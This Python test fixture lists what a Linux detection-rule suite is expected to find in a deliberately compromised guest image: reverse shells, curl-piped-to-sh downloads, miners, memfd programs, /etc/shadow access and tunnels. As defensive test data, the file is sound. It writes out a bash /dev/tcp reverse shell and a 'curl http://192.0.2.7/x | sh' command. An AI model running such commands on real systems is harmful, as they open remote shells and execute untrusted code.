"""What the rules for Linux find in the guest that guest_image.py makes: all of it, and no more.

Processes are known by what guest_things.py calls them. What a process started is called by its
parent's name and its own, so `curl-to-sh/sh` is the shell that reads what curl fetches.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from tests.playbooks.guest_acts import PORT
from tests.playbooks.proof import Proof

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

GUEST = "guest"
"""The image's name, as docs/playbooks.md says it."""

Row = dict[str, Any]


def _of(who: str, /, **more: Any) -> Row:
    return {"pid": who, **more}


def _in(who: str, /, **more: Any) -> Row:
    return {"process": {"pid": who}, **more}


FOUND: Mapping[str, tuple[str, tuple[Row, ...]]] = {
    "bpf-descriptor": (
        "a process that has loaded a program of eBPF and made a map",
        (_in("bpf", kind="bpf-map"), _in("bpf", kind="bpf-prog")),
    ),
    "child-of-kernel-thread": (
        "a program that the kernel started in the place of modprobe, whose path was overwritten",
        (_of("program-of-kernel", exe="/usr/sbin/helper"),),
    ),
    "code-in-memory-file": (
        "a library that was loaded from a memfd",
        (_in("library-in-memfd", file_name="/memfd:library", protection="r-x"),),
    ),
    "daemon-elsewhere": (
        "a program called `sshd` in /opt, and a Python that calls itself `cron`",
        (_of("sshd-elsewhere", exe="/opt/sshd"), _of("cron-of-python", name="cron")),
    ),
    "deleted-library": (
        "a library that was deleted once it was loaded",
        (_in("library-deleted", file_name="/usr/local/lib/libgone.so"),),
    ),
    "deleted-open-file": (
        "a file that was deleted while it is open, and one that never had a name",
        (_in("file-deleted", name="/var/log/gone.log"), _in("file-without-name")),
    ),
    "deleted-program": (
        "two programs that were deleted while they run",
        (
            _of("program-deleted", exe="/usr/local/bin/gone"),
            _of("program-deleted-in-tmp", exe="/var/tmp/gone"),
        ),
    ),
    "downloaded-and-run": (
        "shells that run what curl fetches, and what base64 decodes",
        (
            _of("curl-to-sh", command_line="sh -c curl -fsSL http://192.0.2.7/x | sh"),
            _of("curl-in-bash"),
            _of("curl-in-sh"),
            _of("base64-to-sh"),
            _of("eval-base64"),
        ),
    ),
    "executable-anonymous-memory": (
        "code in memory that was made executable after it was written",
        (_in("memory-executable", size=8192, protection="r-x"),),
    ),
    "executable-stack-or-heap": (
        "a stack, a heap, and one page of a heap that were made executable",
        (
            _in("stack-executable", name="[stack]", protection="rwx"),
            _in("heap-executable", name="[heap]", protection="rwx"),
            _in("heap-page-executable", name="[heap]", size=4096, protection="rwx"),
        ),
    ),
    "foreign-library": (
        "libraries in /opt and /tmp, one of them by LD_PRELOAD",
        (
            _in("library-in-tmp", file_name="/tmp/libx.so"),
            _in("library-in-opt", file_name="/opt/lib/libx.so"),
            _in("library-preloaded", file_name="/opt/lib/libx.so"),
        ),
    ),
    "kernel-thread-name": (
        "a Python that calls itself `kworker/0:9`, and a program that was told to be in brackets",
        (_of("kworker", name="kworker/0:9"), _of("brackets", command_line="[kworker/u4:0]")),
    ),
    "keyboard-device-open": (
        "a process that has the keyboard open",
        (_in("keyboard", name="/dev/input/event0"),),
    ),
    "library-in-temporary-folder": (
        "a library in /tmp",
        (_in("library-in-tmp", file_name="/tmp/libx.so", is_deleted=False),),
    ),
    "memory-device-open": (
        "processes that have the memory of another process, of the kernel and of the machine open",
        (
            _in("memory-of-other", name="/proc/1/mem"),
            _in("memory-of-thread", name="/proc/1/task/1/mem"),
            _in("memory-of-kernel", name="/proc/kcore"),
            _in("memory-of-machine", name="/dev/mem"),
        ),
    ),
    "miner": (
        "a program called `xmrig`, and one with a pool's address in its arguments",
        (_of("miner", name="xmrig"), _of("miner-renamed", name="a")),
    ),
    "packet-ring": (
        "a packet socket with a ring that is mapped",
        (_in("packets-in-ring", size=16384),),
    ),
    "packet-socket": (
        "packet sockets, one with a ring and one without",
        (
            _of("packets", descriptor=3, family=17),
            _of("packets-in-ring", descriptor=3, family=17),
            _of("packets-in-ring", descriptor=5, family=17),
        ),
    ),
    "password-file-open": (
        "a process that has /etc/shadow open",
        (_in("passwords", name="/etc/shadow"),),
    ),
    "program-in-hidden-folder": (
        "a program in a folder called `.x`",
        (_of("program-hidden", exe="/var/lib/.x/c"),),
    ),
    "program-in-memory-only": (
        "a program in a memfd, and one that was deleted in /var/tmp",
        (_of("program-in-memfd", exe="/memfd:payload"), _of("program-deleted-in-tmp")),
    ),
    "program-in-temporary-folder": (
        "programs in /tmp, /dev/shm and /var/tmp",
        (
            _of("program-in-tmp", exe="/tmp/a"),
            _of("program-in-shm", exe="/dev/shm/b"),
            _of("program-deleted-in-tmp", exe="/var/tmp/gone"),
        ),
    ),
    "reverse-shell-command": (
        "reverse shells of bash, Python, netcat, socat and a fifo, most of them connected",
        (
            _of("reverse-bash", command_line=f"bash -c bash -i >& /dev/tcp/127.0.0.1/{PORT} 0>&1"),
            _of("reverse-bash-list"),
            _of("reverse-bash-read"),
            _of("reverse-bash-read/bash"),
            _of("reverse-telnet"),
            _of("reverse-python"),
            _of("reverse-fifo"),
            _of("reverse-netcat"),
            _of("reverse-socat"),
        ),
    ),
    "root-for-another": (
        "a user's program with the setuid bit that has left its real user as it was",
        (_of("shell-of-setuid", exe="/usr/local/bin/backup", uid=1000),),
    ),
    "root-of-user": (
        "a user's program with the setuid bit that made itself root, and a daemon that came to one",
        (
            _of("root-of-user/helper", parent={"name": "job", "uid": 1000}),
            _of("root-adopted/daemon", parent={"name": "session", "uid": 1000}),
        ),
    ),
    "traced-process": (
        "a program that its parent traces",
        (_of("tracer/job", name="job", tracer="debug"),),
    ),
    "script-in-temporary-folder": (
        "scripts in /tmp, /var/tmp and /dev/shm, one named without its folder, one as input",
        (
            _of("script-by-sh", command_line="sh -e /tmp/x.sh"),
            _of("script-itself", command_line="/usr/bin/sh /var/tmp/y.sh"),
            _of("script-by-python", command_line="python3 -u /dev/shm/z.py"),
            _of("script-in-folder", command_line="sh w.sh"),
            _of("script-as-input", command_line="sh -s"),
        ),
    ),
    "shell-of-server": (
        "a shell that nginx has started",
        (_of("shell-of-nginx/sh", parent={"name": "nginx", "exe": "/usr/sbin/nginx"}),),
    ),
    "shell-on-socket": (
        "shells and Pythons with a connection of TCP as input and output",
        (
            _of("shell-on-socket", command_line="sh -i"),
            _of("python-on-socket", command_line="python3 -i"),
            _of("reverse-python"),
            _of("reverse-bash-instead", command_line="bash -i"),
            _of("reverse-bash/bash", command_line="bash -i"),
            _of("reverse-bash-list/bash", command_line="bash -i"),
        ),
    ),
    "tainting-module": (
        "a module without a signature",
        ({"name": "dummy", "taints": "E"},),
    ),
    "tunnel": (
        "ssh with a port of the other side and as a proxy, and chisel",
        (_of("ssh-remote"), _of("ssh-proxy"), _of("chisel", name="chisel")),
    ),
    "writable-executable-memory": (
        "code in memory that may be written and executed, and a page of a stack that was made so",
        (_in("memory-injected", size=8192), _in("stack-page-executable", size=4096)),
    ),
}
"""What was planted for each rule, and its rows; of a rule that is not here, there are none."""


def _proofs() -> Iterator[Proof]:
    for rule, (what, rows) in FOUND.items():
        yield Proof(f"linux/{rule}", GUEST, rows, what, is_real=True)


PROOFS: tuple[Proof, ...] = tuple(_proofs())
